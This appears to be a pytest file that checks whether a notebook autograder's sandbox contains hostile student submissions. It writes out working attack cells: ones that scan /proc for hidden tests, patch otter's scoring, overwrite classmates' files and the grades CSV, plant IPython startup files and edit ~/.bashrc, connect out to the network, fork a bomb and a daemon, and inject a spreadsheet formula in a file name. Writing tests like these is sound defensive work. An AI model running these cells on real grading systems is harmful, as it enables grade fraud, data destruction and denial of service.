"""Hostile submissions: each attack is held by the sandbox and the separate scoring process.

One batch of ex03_easi submissions, graded with the instructor's command, as a student who
wants a better grade would try it. Each hostile notebook is an honest notebook (the
solution, a wrong answer, or the blank notebook) with one extra cell placed so that, if the
attack worked, the grade would change (a wrong answer turned right, a blank scoring points).
"Held" means:

- the grade equals its honest equivalent's, question by question;
- nothing outside the sandbox changed: the submissions folder, the grader's home folder,
  the autograder zip, the Python environment, files the attack tried to create, and the
  grades CSV (also seconds after the batch ended, when a daemon would strike);
- the listener on 127.0.0.1 saw no connection; no process of the batch is left;
- the batch wrote a row for every file, and a later, separate batch is not affected.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from test_grading import (ASSIGNMENTS, PYTHON, ROOT, answer_cell, autograder, check_index, insert_after_setup,
                          sandbox_processes, solution, student, v3, write)

NAME = "ex03_easi"
TOKEN = f"usrok-hostile-{uuid.uuid4().hex[:12]}"
WALL, CELL = 240, 90  # generous: CI is a loaded 2-core machine, and the bomb slows its own sandbox
DEEP = "q5"  # the question whose answer is nested too deeply (one whose variable no later question uses)


class _Info(dict):
    """The autograder's questions and variables, read when first needed (after the build)."""

    def __getitem__(self, key):
        if not self:
            from usrok.assignments import read_autograder

            self.update(read_autograder(autograder(NAME)))
        return dict.__getitem__(self, key)


INFO = _Info()


def tree_hash(folder: Path) -> str:
    """Names, sizes and contents of every file under ``folder``."""
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode() + b"\0")
        if p.is_file() and not p.is_symlink():
            h.update(p.read_bytes())
    return h.hexdigest()


def file_hash(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


class Listener:
    """A TCP server on 127.0.0.1 that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.seen: list[str] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, addr = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.seen.append(str(addr))
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def attacks(paths: dict) -> dict[str, tuple[str, str, str]]:
    """``{file: (base, where, code)}``: the honest base, where the cell goes, the attack.

    ``where`` is ``"before qN check"`` (on the wrong base: after the wrong answer to q1, so
    success would turn it right) or ``"after setup"``.
    """
    p = {k: str(v) for k, v in paths.items()}
    cheat = ('from usrok import data\n    '
             'planned_cut = int(data.load("easi_stages").set_index("stage").loc[1, "planned_troop_cut"])'
             '  # the right answer: the attack worked')
    return {
        "read-the-tests.ipynb": ("wrong", "before q1 check", f'''
import os, re, zipfile

def leaks(path):  # does this file hold the hidden test of q1?
    try:
        if path.endswith(".zip"):
            with zipfile.ZipFile(path) as zf:
                return any("test_q1_value" in zf.read(n).decode(errors="replace") for n in zf.namelist())
        with open(path, errors="replace") as fh:
            return "test_q1_value" in fh.read(20_000_000)
    except Exception:
        return False

mine = ("/proc", "/sys", "/dev", "/usr", "/submission", "/input")  # its own copies hold the test's name
seen = []
for pid in [d for d in os.listdir("/proc") if d.isdigit()]:
    for what in ("cmdline", "environ"):
        try:
            seen.append(open(f"/proc/{{pid}}/{{what}}", "rb").read().decode(errors="replace"))
        except OSError:
            pass
    try:
        seen.append(os.readlink(f"/proc/{{pid}}/cwd"))
    except OSError:
        pass
candidates = [w for text in seen for w in re.split(r"[\\s\\0=:]", text) if w.startswith("/")]
candidates += [{p['zip']!r}, {p['solution']!r}, "tests/q1.py", "../tests/q1.py", "/autograder/source/tests/q1.py"]
for root, dirs, files in os.walk("/"):
    if root.startswith(mine):
        dirs[:] = []
        continue
    candidates += [os.path.join(root, f) for f in files
                   if f.endswith((".zip", ".ipynb", ".md", ".pkl")) or re.fullmatch(r"q\\d+\\.py", f)]
if any(os.path.isfile(c) and not c.startswith(mine) and leaks(c) for c in candidates):
    {cheat}
'''),
        "patch-the-results.ipynb": ("wrong", "before q1 check", '''
import json, os, pickle, otter
import otter.test_files.abstract_test as at
pickle.dump = lambda *a, **k: None
json.dump = lambda obj, fh, *a, **k: fh.write('{"q1": 1.0, "total": 11}')
at.TestFile.score = property(lambda self: 100.0)
at.TestFile.passed_all = property(lambda self: True)
otter.Notebook.check = lambda self, *a, **k: None
with open("results.json", "w") as fh:
    fh.write('{"tests": [{"name": "q1", "score": 1}]}')
for name in os.listdir("."):
    if name.endswith(".jsonl"):
        with open(name, "a") as fh:
            fh.write('{"question": "q1", "when": "check", "values": {}, "score": 1, "passed": true}\\n')
'''),
        "overwrite-a-classmate.ipynb": ("solution", "after setup", f'''
import os
targets = [{p['classmate']!r}, {p['csv']!r}, {p['zip']!r}, {p['venv_file']!r}, "/course/usrok/checks.py"]
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")):
        dirs[:] = []
        continue
    targets += [os.path.join(root, f) for f in files if f.endswith(".ipynb") and f != "{NAME}.ipynb"]
for t in targets:
    try:
        with open(t, "w") as fh:
            fh.write("{{}}")
    except OSError:
        pass
'''),
        "startup-file.ipynb": ("blank", "after setup", f'''
import os
evil = "planned_cut = 7000\\nhalt_reason = 'c'\\n"
for home in [os.path.expanduser("~"), {p['home']!r}, {p['real_home']!r}]:
    folder = os.path.join(home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "00-{TOKEN}.py"), "w") as fh:
            fh.write(evil)
    except OSError:
        pass
'''),
        "write-to-home.ipynb": ("solution", "after setup", f'''
import os
for path in [{p['home']!r} + "/{TOKEN}.txt", {p['real_home']!r} + "/{TOKEN}.txt", "/tmp/{TOKEN}.txt",
             {p['folder']!r} + "/{TOKEN}.ipynb", os.path.expanduser("~/.bashrc")]:
    try:
        with open(path, "a") as fh:
            fh.write("written by a submission")
    except OSError:
        pass
'''),
        "reach-the-network.ipynb": ("wrong", "before q1 check", f'''
import socket
reached = []
for host, port in [("127.0.0.1", {paths['port']}), ("pypi.org", 443), ("1.1.1.1", 53), ("10.0.0.1", 80)]:
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(b"{TOKEN}")
            reached.append(host)
    except OSError:
        pass
if reached:
    {cheat}
'''),
        "leave-a-daemon.ipynb": ("solution", "after setup", f'''
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = ("import time; time.sleep(4)\\n"
                "for p, text in [({p['csv']!r}, 'file,status\\\\nx.ipynb,graded'), ({p['mark']!r}, 'escaped')]:\\n"
                "    try: open(p, 'w').write(text)\\n"
                "    except OSError: pass\\n"
                "time.sleep(600)  # {TOKEN}")
        os.execve(sys.executable, [sys.executable, "-c", code], {{}})
    os._exit(0)
os.wait()
'''),
        "fork-20-times.ipynb": ("solution", "after setup", f'''
import os, signal, time
for i in range(20):
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.execv("/bin/sleep", ["sleep", "600"])  # {TOKEN}
'''),
        "fork-bomb.ipynb": ("solution", "after setup", '''
import os, time
if os.fork() == 0:
    while True:
        try:
            os.fork()  # every child forks again, until the process limit says no
        except OSError:
            time.sleep(1)
time.sleep(2)
'''),
        "allocate-3-gb.ipynb": ("solution", "after setup", '''
hoard = bytearray(3 * 1024**3)
'''),
        "print-50-mb.ipynb": ("solution", "after setup", '''
for _ in range(50):
    print("x" * 1_000_000)
'''),
        "deep-answer.ipynb": ("solution", f"before {DEEP} check", f'''
{p['deep_var']} = []  # an answer nested 100,000 deep: recorded as "not data", so {DEEP} (only) fails
inner = {p['deep_var']}
for _ in range(100_000):
    inner.append([])
    inner = inner[0]
'''),
    }


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    build = subprocess.run([PYTHON, str(ROOT / "exercises" / "build_assignments.py"), NAME], capture_output=True,
                           text=True, cwd=ROOT)
    assert build.returncode == 0, build.stdout + build.stderr
    base = tmp_path_factory.mktemp("hostile")
    folder, home, out = base / "submissions", base / "home", base / "out" / "grades.csv"
    folder.mkdir()
    (home / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (home / "notes.txt").write_text("the instructor's own file")
    zip_path = autograder(NAME)
    import otter

    venv_file = Path(otter.__file__)
    listener = Listener()
    paths = {"zip": zip_path, "solution": zip_path.parent / f"{NAME}.ipynb", "classmate": folder / "classmate.ipynb",
             "csv": out, "home": home, "real_home": Path.home(), "folder": folder, "mark": base / "escaped.txt",
             "venv_file": venv_file, "port": listener.port, "deep_var": INFO["variables"][DEEP][0]}
    sol = solution(NAME)
    # A wrong answer to q1 that the notebook keeps (q3 is computed from it, so it is wrong too).
    wrong = nbformat.from_dict(json.loads(json.dumps(sol)))
    answer_cell(wrong, "q1").source += "\nplanned_cut = 6500  # stage 2's figure"
    blank = nbformat.read(student(NAME), as_version=4)
    honest = {"solution": sol, "wrong": wrong, "blank": blank}
    for kind, nb in honest.items():
        write(nb, folder / f"{kind}.ipynb")
    write(sol, folder / "classmate.ipynb")
    cases = attacks(paths)
    for file, (kind, where, code) in cases.items():
        nb = honest[kind]
        if where == "after setup":
            nb = insert_after_setup(nb, code)
        else:
            nb = nbformat.from_dict(json.loads(json.dumps(nb)))
            nb.cells.insert(check_index(nb, where.split()[1]), nbformat.v4.new_code_cell(code))
        write(nb, folder / file)
    (folder / "nbformat-3.ipynb").write_text(v3(sol), encoding="utf-8")
    (folder / '=HYPERLINK("example.com","x").ipynb').write_text(nbformat.writes(sol), encoding="utf-8")
    (folder / "deep-json.ipynb").write_text('{"cells": ' + "[" * 11000 + "]" * 11000 + "}")  # 22 KB
    expected = {**{f: k for f, (k, _, _) in cases.items()}, "nbformat-3.ipynb": "solution",
                '=HYPERLINK("example.com","x").ipynb': "solution", "classmate.ipynb": "solution",
                **{f"{k}.ipynb": k for k in honest}}

    before = {"folder": tree_hash(folder), "home": tree_hash(home), "zip": file_hash(zip_path),
              "venv": file_hash(venv_file), "venv_bin": tree_hash(Path(sys.prefix) / "bin")}
    started = time.monotonic()
    run = subprocess.run([PYTHON, "-m", "usrok.grading", "grade", str(zip_path), str(folder), "--out", str(out),
                          "--workers", "2", "--timeout", str(WALL), "--cell-timeout", str(CELL)],
                         capture_output=True, text=True, cwd=ROOT, env={**os.environ, "HOME": str(home)})
    seconds = time.monotonic() - started
    assert run.returncode == 0, run.stderr[-3000:]
    csv_right_after = file_hash(out)
    time.sleep(8)  # the daemon would write 4 s after it started
    left = sandbox_processes(TOKEN)
    listener.close()
    after = {"folder": tree_hash(folder), "home": tree_hash(home), "zip": file_hash(zip_path),
             "venv": file_hash(venv_file), "venv_bin": tree_hash(Path(sys.prefix) / "bin")}
    with open(out, newline="") as fh:
        rows = {r["file"]: r for r in csv.DictReader(fh)}
    # A later, separate batch: a blank notebook still scores nothing (no startup file survived).
    later = base / "later"
    later.mkdir()
    write(blank, later / "blank-again.ipynb")
    again = subprocess.run([PYTHON, "-m", "usrok.grading", "grade", str(zip_path), str(later), "--out",
                            str(base / "later.csv"), "--workers", "1", "--timeout", str(WALL)],
                           capture_output=True, text=True, cwd=ROOT, env={**os.environ, "HOME": str(home)})
    assert again.returncode == 0, again.stderr[-2000:]
    (later_row,) = list(csv.DictReader(open(base / "later.csv", newline="")))
    return {"rows": rows, "expected": expected, "before": before, "after": after, "out": out, "paths": paths,
            "csv_right_after": csv_right_after, "left": left, "listener": listener.seen, "folder": folder,
            "later": later_row, "seconds": seconds, "stderr": run.stderr}


def _label(file: str) -> str:
    return "'" + file if file.startswith(("=", "+", "-", "@")) else file


def test_every_file_got_a_row(hostile):
    files = sorted(p.name for p in hostile["folder"].iterdir())
    assert sorted(f.lstrip("'") if f.startswith("'=") else f for f in hostile["rows"]) == files
    print(f"hostile batch: {len(files)} files in {hostile['seconds']:.0f} s")


@pytest.mark.parametrize("file", sorted(attacks({k: "" for k in ("zip", "solution", "classmate", "csv", "home",
                                                                   "real_home", "folder", "mark", "venv_file",
                                                                   "port", "deep_var")}))
                         + ["nbformat-3.ipynb", '=HYPERLINK("example.com","x").ipynb', "classmate.ipynb"])
def test_grade_equals_the_honest_equivalent(hostile, file):
    rows = hostile["rows"]
    row, honest = rows[_label(file)], dict(rows[f"{hostile['expected'][file]}.ipynb"])
    questions = list(ASSIGNMENTS[NAME]["questions"])
    auto = [q["name"] for q in questions if not q["manual"]]
    if file == "deep-answer.ipynb":  # its honest equivalent: the solution with a wrong answer to DEEP
        honest[DEEP] = "0"
        honest["auto_total"] = f"{float(honest['auto_total']) - INFO['questions'][DEEP]:g}"
    assert [row[q] for q in auto] == [honest[q] for q in auto], (file, row["reason"])
    assert row["auto_total"] == honest["auto_total"], (file, row["reason"])
    assert row["status"] in ("graded", "graded-with-errors"), (file, row["status"], row["reason"])


def test_attacks_that_must_raise_say_so(hostile):
    rows = hostile["rows"]
    assert "MemoryError" in rows["allocate-3-gb.ipynb"]["reason"], rows["allocate-3-gb.ipynb"]
    assert rows["deep-json.ipynb"]["status"] == "invalid-notebook"
    assert "nested too deeply" in rows["deep-json.ipynb"]["reason"]


def test_nothing_outside_the_sandbox_changed(hostile):
    before, after, paths = hostile["before"], hostile["after"], hostile["paths"]
    assert before == after, {k: (before[k], after[k]) for k in before if before[k] != after[k]}
    assert file_hash(hostile["out"]) == hostile["csv_right_after"], "the grades CSV was rewritten after the batch"
    for path in [paths["mark"], Path(paths["real_home"]) / f"{TOKEN}.txt", Path(f"/tmp/{TOKEN}.txt"),
                 Path(paths["real_home"]) / ".ipython" / "profile_default" / "startup" / f"00-{TOKEN}.py"]:
        assert not path.exists(), f"a submission wrote {path}"


def test_nothing_reached_the_network_or_outlived_the_batch(hostile):
    assert hostile["listener"] == [], f"a submission connected to 127.0.0.1: {hostile['listener']}"
    assert hostile["left"] == [], f"processes outlived the batch: {hostile['left']}"


def test_a_later_batch_is_not_affected(hostile):
    row = hostile["later"]
    assert row["status"] in ("graded", "graded-with-errors") and float(row["auto_total"]) == 0, row


def test_the_csv_shows_a_formula_name_as_text(hostile):
    raw = hostile["out"].read_text(encoding="utf-8")
    assert """'=HYPERLINK(""example.com"",""x"").ipynb""" in raw
    assert not any(line.startswith("=") for line in raw.splitlines())
